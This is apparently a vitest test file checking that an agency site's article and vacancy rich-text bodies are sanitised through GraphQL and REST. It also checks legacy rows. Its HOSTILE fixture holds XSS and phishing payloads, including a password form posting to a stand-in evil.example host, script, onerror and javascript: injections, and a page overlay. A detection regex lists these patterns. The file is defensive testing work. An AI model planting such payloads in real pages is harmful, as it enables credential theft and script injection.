/**
 * Article and vacancy bodies through both doors: whatever a copywriter or HR posts, what is stored
 * and served is only what the admin editor makes (@agency/schema/rich-text), and everything the
 * editor makes is stored unchanged. Rows left by an older sanitiser are cleaned once at start-up.
 */
import { RICH_TEXT_VERSION } from '@agency/schema/rich-text';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bootstrap } from '../src/seed/bootstrap.ts';
import { GENEROUS_RATE_LIMITS, startTestApp, type TestApp } from './harness.ts';

let app: TestApp;
let copywriter: string;
let hr: string;
beforeAll(async () => {
  app = await startTestApp({ rateLimits: GENEROUS_RATE_LIMITS });
  copywriter = (await app.staff(['COPYWRITER'])).token;
  hr = (await app.staff(['HR'])).token;
});
afterAll(async () => app?.stop());

const HOSTILE =
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Overlay text</div>' +
  '<p style="color:red" class="x" id="y" onclick="alert(1)">Styled paragraph</p>' +
  '<form action="https://evil.example/steal" method="post"><input name="password" placeholder="Password">' +
  '<select name="s"><option>Choice</option></select><textarea name="t">Typed</textarea>' +
  '<button type="submit">Send</button></form>' +
  '<iframe src="https://evil.example"></iframe><script>window.__pwned = 1</script>' +
  '<img src="x" onerror="window.__pwned = 2"><a href="javascript:alert(1)">Bad link</a>' +
  '<a href="https://example.com" target="_blank">New tab</a><style>body{display:none}</style>';

const HOSTILE_CLEAN =
  'Overlay text<p>Styled paragraph</p>Send' +
  'Bad link<a href="https://example.com" target="_blank" rel="noopener noreferrer">New tab</a>';

// Every kind of markup the editor's toolbar makes, as TipTap writes it.
const EDITOR_HTML =
  '<h2>What you will do</h2><p>Build <strong>fast</strong> and <em>accessible</em> pages&nbsp;&amp; APIs.</p>' +
  '<h3>Stack</h3><ul><li><p>React</p></li><li><p>Node</p><ul><li><p>Fastify</p></li></ul></li></ul>' +
  '<ol start="2"><li><p>Second</p></li></ol><blockquote><p>A quote</p></blockquote>' +
  '<p>Line<br>break <a href="/careers">careers</a> <a href="mailto:jobs@example.com">mail</a> ' +
  '<a href="https://example.com" target="_blank" rel="noopener noreferrer">site</a></p>';

const FORBIDDEN =
  /style=|<form|<input|<button|<select|<option|<textarea|<iframe|<script|<img|<div|onerror|onclick|javascript:|class=|id=/i;

type Door = {
  create: (content: string) => Promise<{ id: string; content: string }>;
  update: (id: string, content: string) => Promise<string>;
  read: (id: string) => Promise<string>;
};

const article = (content: string, n: number) => ({
  title: `Rich text ${n} ${Math.random()}`,
  description: 'Probe',
  content,
  category: 'DESIGN',
  visibility: true,
});
const vacancy = (content: string) => ({
  name: 'Probe',
  languageLvl: 'B2',
  city: 'Remote',
  country: 'UA',
  experience: '1 year',
  content,
  visibility: true,
});
let n = 0;

const DOORS: Record<string, () => Door> = {
  'articles via GraphQL': () => ({
    create: async (content) => {
      const res = await app.gql(
        'mutation($input: ArticleCreateInput!) { createArticle(input: $input) { id content } }',
        { input: article(content, ++n) },
        copywriter,
      );
      expect(res.errors).toBeUndefined();
      return res.data!.createArticle;
    },
    update: async (id, content) => {
      const res = await app.gql(
        'mutation($id: ID!, $input: ArticleUpdateInput!) { updateArticle(id: $id, input: $input) { content } }',
        { id, input: { content } },
        copywriter,
      );
      expect(res.errors).toBeUndefined();
      return res.data!.updateArticle.content;
    },
    read: async (id) =>
      (await app.gql('query($id: ID) { article(id: $id) { content } }', { id })).data!.article.content,
  }),
  'articles via REST': () => ({
    create: async (content) => {
      const res = await app.rest('POST', '/api/article/create', article(content, ++n), copywriter);
      expect(res.status).toBe(201);
      return { id: res.body._id, content: res.body.content };
    },
    update: async (id, content) => {
      const res = await app.rest('PUT', '/api/article', { _id: id, content }, copywriter);
      expect(res.status).toBe(200);
      return res.body.content;
    },
    read: async (id) => (await app.rest('GET', `/api/article/one/${id}`)).body.content,
  }),
  'vacancies via GraphQL': () => ({
    create: async (content) => {
      const res = await app.gql(
        'mutation($input: VacancyCreateInput!) { createVacancy(input: $input) { id content } }',
        { input: vacancy(content) },
        hr,
      );
      expect(res.errors).toBeUndefined();
      return res.data!.createVacancy;
    },
    update: async (id, content) => {
      const res = await app.gql(
        'mutation($id: ID!, $input: VacancyUpdateInput!) { updateVacancy(id: $id, input: $input) { content } }',
        { id, input: { content } },
        hr,
      );
      expect(res.errors).toBeUndefined();
      return res.data!.updateVacancy.content;
    },
    read: async (id) =>
      (
        (await app.gql('{ vacancies { id content } }')).data!.vacancies as { id: string; content: string }[]
      ).find((v) => v.id === id)!.content,
  }),
  'vacancies via REST': () => ({
    create: async (content) => {
      const { experience, ...rest } = vacancy(content);
      const res = await app.rest('POST', '/api/vacancy', { ...rest, experince: experience }, hr);
      expect(res.status).toBe(201);
      return { id: res.body._id, content: res.body.content };
    },
    update: async (id, content) => {
      const res = await app.rest('PUT', '/api/vacancy', { _id: id, content }, hr);
      expect(res.status).toBe(200);
      return res.body.content;
    },
    read: async (id) => (await app.rest('GET', `/api/vacancy/${id}`)).body.content,
  }),
};

describe.each(Object.keys(DOORS))('%s', (name) => {
  it('strips what the editor never makes, on create and on update, and serves the clean HTML', async () => {
    const door = DOORS[name]!();
    const created = await door.create(HOSTILE);
    expect(created.content).toBe(HOSTILE_CLEAN);
    expect(created.content).not.toMatch(FORBIDDEN);
    expect(await door.read(created.id)).toBe(HOSTILE_CLEAN);

    const updated = await door.update(created.id, `<p>Kept</p>${HOSTILE}`);
    expect(updated).toBe(`<p>Kept</p>${HOSTILE_CLEAN}`);
    expect(await door.read(created.id)).toBe(updated);
  });

  it('stores everything the editor makes unchanged', async () => {
    const door = DOORS[name]!();
    const created = await door.create(EDITOR_HTML);
    expect(created.content).toBe(EDITOR_HTML);
    expect(await door.update(created.id, EDITOR_HTML)).toBe(EDITOR_HTML);
    expect(await door.read(created.id)).toBe(EDITOR_HTML);
  });

  it('refuses a body that is empty once cleaned', async () => {
    const door = DOORS[name]!();
    await expect(door.create('<div style="position:fixed;inset:0"></div><img src=x>')).rejects.toThrow();
  });
});

describe('rows written by an older sanitiser', () => {
  it('are cleaned once at start-up, keeping their updatedAt, and the version is remembered', async () => {
    const updatedAt = new Date('2024-05-01T10:00:00Z');
    const a = await app.db.article.create({
      data: {
        title: 'Old row',
        slug: `old-row-${Date.now()}`,
        description: 'd',
        content: HOSTILE,
        category: 'DESIGN',
        visibility: true,
        updatedAt,
      },
    });
    const v = await app.db.vacancy.create({
      data: { ...vacancy(`<p>Old</p>${HOSTILE}`), updatedAt },
    });
    const fine = await app.db.vacancy.create({ data: vacancy(EDITOR_HTML) });
    // As a database last started under the old sanitiser looks.
    await app.db.setting.deleteMany({ where: { key: 'richTextVersion' } });

    await bootstrap(app.db, app.config, pino({ level: 'silent' }));

    const article = await app.db.article.findUniqueOrThrow({ where: { id: a.id } });
    expect(article.content).toBe(HOSTILE_CLEAN);
    expect(article.updatedAt.toISOString()).toBe(updatedAt.toISOString());
    const cleaned = await app.db.vacancy.findUniqueOrThrow({ where: { id: v.id } });
    expect(cleaned.content).toBe(`<p>Old</p>${HOSTILE_CLEAN}`);
    expect(cleaned.updatedAt.toISOString()).toBe(updatedAt.toISOString());
    expect((await app.db.vacancy.findUniqueOrThrow({ where: { id: fine.id } })).content).toBe(EDITOR_HTML);
    expect((await app.db.setting.findUnique({ where: { key: 'richTextVersion' } }))?.value).toBe(
      RICH_TEXT_VERSION,
    );

    // The next start leaves rows alone, even one that a direct database write made dirty.
    await app.db.vacancy.update({ where: { id: fine.id }, data: { content: HOSTILE } });
    await bootstrap(app.db, app.config, pino({ level: 'silent' }));
    expect((await app.db.vacancy.findUniqueOrThrow({ where: { id: fine.id } })).content).toBe(HOSTILE);
    await app.db.vacancy.deleteMany({ where: { id: { in: [v.id, fine.id] } } });
    await app.db.article.delete({ where: { id: a.id } });
  });
});
